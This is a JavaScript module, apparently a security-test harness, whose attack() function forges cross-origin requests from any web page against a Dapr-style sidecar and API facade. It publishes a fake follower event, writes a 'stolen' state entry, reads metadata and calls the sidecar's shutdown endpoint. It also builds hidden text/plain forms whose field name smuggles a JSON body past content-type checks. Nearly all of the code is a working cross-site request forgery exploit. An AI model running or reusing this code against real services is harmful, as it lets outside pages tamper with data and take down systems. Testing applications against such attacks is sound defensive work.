const FOLLOW = '{"follower":"mallory","followee":"bob"}';
const STATE = '[{"key":"stolen","value":1}]';
/** A form that does not load within this time was not refused, or its answer is 204. */
const FORM_MS = 1_000;

/**
 * Tries to use the sample in every way that a web page has: requests with and without CORS, forms, images. Runs in the
 * browser, in a page of any origin. Resolves with the answers that the page can read.
 */
export async function attack({ facade, sidecar }) {
  const text = { 'content-type': 'text/plain' };
  const json = { 'content-type': 'application/json' };
  const attempts = [
    ['POST', `${sidecar}/v1.0/publish/pubsub/followerAdded`, text, FOLLOW],
    ['POST', `${sidecar}/v1.0/publish/pubsub/followerAdded`, json, FOLLOW],
    ['POST', `${sidecar}/v1.0/state/statestore`, text, STATE],
    ['PUT', `${sidecar}/v1.0/state/statestore`, json, STATE],
    ['POST', `${sidecar}/v1.0/invoke/api-facade/method/followers`, {}, undefined],
    ['POST', `${facade}/followers`, {}, undefined],
    ['POST', `${facade}/followers`, json, FOLLOW],
    ['GET', `${sidecar}/v1.0/metadata`, {}, undefined],
    ['POST', `${sidecar}/v1.0/shutdown`, text, undefined],
  ];
  const answers = [];
  for (const mode of ['no-cors', 'cors']) {
    for (const [method, url, headers, body] of attempts) {
      const read = async (answer) => `${method} ${url}: ${answer.status} ${await answer.text()}`;
      answers.push(await fetch(url, { method, headers, body, mode }).then(read, String));
    }
  }
  await Promise.all(attempts.flatMap(([, url, , body]) => [submit(url, body), show(url)]));
  return answers;
}

/** Submits a form as text. Its only field makes the text JSON: `{"follower":…,"x=":""}`. */
function submit(url, body = '{}') {
  const frame = document.createElement('iframe');
  const form = document.createElement('form');
  const field = document.createElement('input');
  frame.name = String(Math.random());
  Object.assign(form, { method: 'POST', action: url, enctype: 'text/plain', target: frame.name });
  Object.assign(field, { name: `${body.slice(0, -1)},"x`, value: '":""}' });
  form.append(field);
  document.body.append(frame, form);
  form.submit();
  return new Promise((resolve) => {
    setTimeout(resolve, FORM_MS);
  });
}

function show(url) {
  return new Promise((resolve) => {
    const image = new Image();
    image.onload = resolve;
    image.onerror = resolve;
    image.src = url;
  });
}
